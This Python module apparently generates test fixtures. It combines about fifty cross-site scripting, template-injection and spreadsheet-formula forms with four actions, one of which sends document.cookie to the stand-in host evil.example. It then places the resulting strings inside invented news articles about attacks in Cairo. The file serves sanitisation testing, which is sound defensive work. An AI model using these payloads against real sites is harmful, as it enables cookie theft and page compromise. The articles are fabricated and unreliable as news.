"""Two hundred strings that try to be markup, script, style, an address or a template; articles with them."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from typing import Any

ACTS = (
    "alert(1)", "alert(document.domain)", "window.opener.alert(1)", "fetch('https://evil.example/'+document.cookie)",
)  # fmt: skip
FORMS = (
    "<script>{act}</script>", "<ScRiPt >{act}</sCrIpT>", "<script/src=https://evil.example/a.js></script><b>{act}",
    "<img src=x onerror={act}>", "<img src='x'onerror='{act}'>", '"><img src=x onerror="{act}">',
    "'><svg/onload={act}>", "<svg><animate onbegin={act} attributeName=x dur=1s>", "<svg><script>{act}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>", "<iframe srcdoc='<script>{act}</script>'>",
    "<iframe src=javascript:{act}>", "<a href=javascript:{act}>read on</a>", "javascript:{act}",
    "JaVaScRiPt&colon;{act}",
    "data:text/html,<script>{act}</script>", "<object data=javascript:{act}>", "<embed src=javascript:{act}>",
    "<details open ontoggle={act}>", "<input autofocus onfocus={act}>", "<video><source onerror={act}>",
    "<body onload={act}>", "<style>@import'https://evil.example/a.css';</style>{act}", "<base href=https://evil.example/>{act}",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>", "<form action=https://evil.example/><button>{act}",
    "</title><script>{act}</script>", "</textarea><script>{act}</script>", "</style><script>{act}</script>",
    "--><script>{act}</script>", "]]><script>{act}</script>", "{{{{ {act} }}}}", "{{% print({act}) %}}", "${{{act}}}",
    "'-{act}-'", '";{act}//', "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "%3Cscript%3E{act}%3C/script%3E", "<\u202escript\u202c>{act}</script>", "＜script＞{act}＜/script＞",
    "<script>\u2028{act}</script>",
    "<xss style=background:url(https://evil.example/a)>{act}",
    "<link rel=stylesheet href=https://evil.example/a.css>{act}",
    "<p hx-get=https://evil.example/ hx-trigger=load>{act}", "<marquee onstart={act}>", "//evil.example/{act}",
    "https://evil.example@127.0.0.1/{act}", "=cmd|' /C {act}'!A0",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
)  # fmt: skip
COUNT = 200
EACH = 4  # strings in one article


def strings() -> list[str]:
    """The strings, each once."""
    found = list(dict.fromkeys(form.format(act=act) for act, form in islice(product(ACTS, FORMS), COUNT)))
    assert len(found) == COUNT
    return found


def hostile_articles() -> Iterator[dict[str, Any]]:
    """Articles in the batch form that hold all of them: as title, outlet, address, and within an event's words."""
    said = strings()
    for number in range(0, COUNT, EACH):
        title, outlet, address, words = said[number : number + EACH]
        yield {
            "id": f"hostile-{number} {words}",
            "title": title,
            "outlet": outlet,
            "url": address,
            "published": f"2026-03-{1 + number // EACH % 28:02d}",
            "language": "en",
            "text": f"{title}\n\nCAIRO — Gunmen killed {3 + number} people and wounded nine in Cairo on Monday, "
            "police said. "
            f'"We condemn the cowardly attack on {words}," Interior Minister Karim Said {outlet} said.\n\n'
            f"The rebels shelled {words} in Alexandria on Sunday, {outlet} claimed. {address}\n",
        }
